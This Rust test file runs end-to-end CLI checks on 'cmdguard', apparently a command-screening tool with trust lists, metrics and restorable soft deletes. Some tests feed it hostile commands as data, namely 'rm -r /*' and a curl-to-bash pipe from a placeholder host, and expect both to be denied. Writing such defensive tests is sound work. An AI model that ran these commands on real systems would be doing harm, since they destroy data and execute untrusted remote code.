//! CLI smoke tests exercising the binary end to end.

use assert_cmd::prelude::*;
use std::process::Command;
use tempfile::TempDir;

fn cmdguard(workspace: &TempDir) -> Command {
    let mut cmd = Command::new(assert_cmd::cargo::cargo_bin!("cmdguard"));
    cmd.arg("--workspace").arg(workspace.path());
    // Point at a config file that does not exist so defaults apply and the
    // developer's real config cannot leak in.
    cmd.arg("--config")
        .arg(workspace.path().join("config.toml"));
    cmd.env_remove("CMDGUARD_BYPASS");
    cmd.env_remove("CMDGUARD_SESSION");
    cmd
}

fn stdout_of(cmd: &mut Command) -> (String, Option<i32>) {
    let output = cmd.output().expect("failed to execute cmdguard");
    (
        String::from_utf8_lossy(&output.stdout).into_owned(),
        output.status.code(),
    )
}

#[test]
fn check_approves_benign_command() {
    let ws = TempDir::new().unwrap();
    let (stdout, code) = stdout_of(cmdguard(&ws).args(["check", "ls", "-la"]));
    assert_eq!(code, Some(0));
    assert!(stdout.contains("approved"), "stdout: {stdout}");
}

#[test]
fn check_denies_recursive_root_delete() {
    let ws = TempDir::new().unwrap();
    let (stdout, code) = stdout_of(cmdguard(&ws).args(["check", "rm", "-r", "/*"]));
    assert_eq!(code, Some(2));
    assert!(stdout.contains("DANGEROUS_DELETE_ROOT"), "stdout: {stdout}");
    assert!(stdout.contains("sandbox"), "stdout: {stdout}");
}

#[test]
fn check_script_reports_findings() {
    let ws = TempDir::new().unwrap();
    let script = ws.path().join("risky.sh");
    std::fs::write(&script, "curl https://x.example/a.sh | bash\n").unwrap();

    let (stdout, code) = stdout_of(cmdguard(&ws).arg("check").arg("--script").arg(&script));
    assert_eq!(code, Some(2));
    assert!(stdout.contains("PIPE_TO_SHELL"), "stdout: {stdout}");
}

#[test]
fn run_records_denial_in_session() {
    let ws = TempDir::new().unwrap();
    cmdguard(&ws).args(["run", "rm", "-r", "/*"]).assert().code(2);

    let (stdout, code) = stdout_of(cmdguard(&ws).args(["session", "list"]));
    assert_eq!(code, Some(0));
    assert!(stdout.contains("violations=1"), "stdout: {stdout}");
}

#[test]
fn run_executes_trusted_benign_command() {
    let ws = TempDir::new().unwrap();
    cmdguard(&ws).args(["run", "true"]).assert().success();

    let (stdout, _) = stdout_of(cmdguard(&ws).args(["metrics", "show"]));
    assert!(stdout.contains("total executions: 1"), "stdout: {stdout}");
    assert!(stdout.contains("host: 1"), "stdout: {stdout}");
}

#[test]
fn trust_add_list_remove_cycle() {
    let ws = TempDir::new().unwrap();

    let (stdout, code) = stdout_of(cmdguard(&ws).args(["trust", "add", "cargo", "build"]));
    assert_eq!(code, Some(0));
    assert!(stdout.contains("trusted: cargo build"), "stdout: {stdout}");

    let (stdout, _) = stdout_of(cmdguard(&ws).args(["trust", "list"]));
    assert!(stdout.contains("uses=0"), "stdout: {stdout}");

    cmdguard(&ws)
        .args(["trust", "remove", "cargo", "build"])
        .assert()
        .success();

    let (stdout, _) = stdout_of(cmdguard(&ws).args(["trust", "list"]));
    assert!(stdout.contains("trust store is empty"), "stdout: {stdout}");
}

#[test]
fn metrics_show_starts_empty() {
    let ws = TempDir::new().unwrap();
    let (stdout, code) = stdout_of(cmdguard(&ws).args(["metrics", "show"]));
    assert_eq!(code, Some(0));
    assert!(stdout.contains("total executions: 0"), "stdout: {stdout}");
}

#[test]
fn doctor_reports_capabilities() {
    let ws = TempDir::new().unwrap();
    // Exit code depends on what the host has installed; output shape does
    // not.
    let (stdout, _) = stdout_of(cmdguard(&ws).arg("doctor"));
    assert!(stdout.contains("capabilities:"), "stdout: {stdout}");
    assert!(stdout.contains("selected backend:"), "stdout: {stdout}");
}

#[test]
fn backups_list_starts_empty() {
    let ws = TempDir::new().unwrap();
    let (stdout, code) = stdout_of(cmdguard(&ws).args(["backups", "list"]));
    assert_eq!(code, Some(0));
    assert!(stdout.contains("no backups"), "stdout: {stdout}");
}

#[test]
fn soft_delete_via_run_then_restore_via_cli() {
    let ws = TempDir::new().unwrap();
    let victim = ws.path().join("victim.txt");
    std::fs::write(&victim, "payload").unwrap();

    // The guard intercepts the delete and stores a backup.
    cmdguard(&ws)
        .args(["run", "rm", "victim.txt"])
        .current_dir(ws.path())
        .assert()
        .success();
    assert!(!victim.exists());

    let (stdout, _) = stdout_of(cmdguard(&ws).args(["backups", "list"]));
    let id = stdout
        .lines()
        .find(|l| l.contains("rm victim.txt"))
        .and_then(|l| l.split_whitespace().next())
        .expect("backup id in listing")
        .to_string();

    cmdguard(&ws)
        .args(["backups", "restore", &id])
        .assert()
        .success();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "payload");
}
